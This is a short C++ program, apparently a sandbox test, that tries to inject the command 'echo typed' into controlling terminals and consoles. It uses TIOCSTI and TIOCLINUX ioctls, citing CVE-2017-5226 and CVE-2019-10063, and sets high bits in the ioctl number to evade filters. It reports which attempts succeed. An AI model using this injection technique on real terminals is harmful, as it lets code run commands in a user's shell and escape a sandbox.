// Types "echo typed" into the terminal it stands on, in every way it knows (CVE-2017-5226,
// CVE-2019-10063); prints a line for each that the kernel took, then "tried".
#include <fcntl.h>
#include <sys/ioctl.h>
#include <sys/syscall.h>
#include <unistd.h>

#include <cstdio>
#include <cstring>
#include <initializer_list>

#ifndef TIOCLINUX
#define TIOCLINUX 0x541C
#endif

namespace {

constexpr char kText[] = "echo typed\n";
constexpr char kPasteSelection = 3;  // ioctl_console(2)
constexpr unsigned long kHighBits[] = {0, 0x1'0000'0000UL, 0x8000'0000'0000'0000UL};

// By the raw call: libc's ioctl() might look at the number.
bool request(int fd, unsigned long number, const char* argument) {
  return ::syscall(SYS_ioctl, fd, number, argument) == 0;
}

void type_into(int fd) {
  for (const unsigned long high : kHighBits) {
    bool all = true;
    for (const char* at = kText; *at != '\0'; ++at) all = request(fd, TIOCSTI | high, at) && all;
    if (all) (void)std::printf("%d TIOCSTI %#lx\n", fd, high);
    if (request(fd, TIOCLINUX | high, &kPasteSelection)) {
      (void)std::printf("%d TIOCLINUX %#lx\n", fd, high);
    }
  }
}

}  // namespace

int main() {
  for (int fd = 0; fd <= 2; ++fd) type_into(fd);
  for (const char* const path : {"/dev/tty", "/dev/console", "/dev/pts/0", "/dev/tty0"}) {
    const int fd = ::open(path, O_RDWR | O_NOCTTY | O_CLOEXEC);
    if (fd < 0) continue;
    (void)std::printf("opened %s\n", path);
    type_into(fd);
  }
  (void)std::printf("tried\n");
  return 0;
}
